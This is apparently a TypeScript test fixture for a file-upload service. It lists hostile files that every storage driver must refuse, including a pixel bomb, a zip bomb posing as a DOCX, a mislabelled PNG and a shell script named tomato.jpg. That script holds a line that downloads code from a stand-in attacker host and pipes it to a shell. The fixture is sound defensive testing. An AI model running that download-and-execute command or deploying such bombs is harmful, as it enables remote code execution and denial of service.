import { photo, pixelBomb, png, zipBombDocx } from './fixtures.js';

/** A file that must be refused, and how. */
export interface HostileCase {
  name: string;
  kind: 'image' | 'document';
  category: string;
  file: () => Promise<{ data: Buffer; name: string; type: string }>;
  status: 400 | 413;
  /** `details.reason` of the VALIDATION_ERROR (400 only). */
  reason?: string;
  /** What the message says the bytes are. */
  detected?: string;
}

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';

/** The hostile files every storage driver must refuse, leaving nothing stored. */
export const HOSTILE_FILES: HostileCase[] = [
  {
    name: 'a PNG renamed .pdf',
    kind: 'document',
    category: 'report',
    file: async () => ({ data: await png(), name: 'r.pdf', type: 'application/pdf' }),
    status: 400,
    reason: 'type',
    detected: 'image/png',
  },
  {
    name: 'a script with an image extension',
    kind: 'image',
    category: 'plant-photo',
    file: async () => ({
      data: Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n'),
      name: 'tomato.jpg',
      type: 'image/jpeg',
    }),
    status: 400,
    reason: 'type',
  },
  {
    name: 'an oversize image',
    kind: 'image',
    category: 'plant-photo',
    file: async () => ({ data: Buffer.alloc(15 * 1024 * 1024 + 1, 0xff), name: 'huge.jpg', type: 'image/jpeg' }),
    status: 413,
  },
  {
    name: 'a pixel bomb',
    kind: 'image',
    category: 'plant-photo',
    file: async () => ({ data: await pixelBomb(), name: 'bomb.png', type: 'image/png' }),
    status: 400,
    reason: 'pixel-limit',
  },
  {
    name: 'a truncated image',
    kind: 'image',
    category: 'plant-photo',
    file: async () => {
      const whole = await photo(1200, 900);
      return { data: whole.subarray(0, Math.floor(whole.length * 0.6)), name: 'cut.jpg', type: 'image/jpeg' };
    },
    status: 400,
    reason: 'corrupt',
  },
  {
    name: 'a zip bomb disguised as DOCX',
    kind: 'document',
    category: 'report',
    file: async () => ({ data: await zipBombDocx(), name: 'report.docx', type: DOCX }),
    status: 400,
    reason: 'zip-bomb',
  },
];
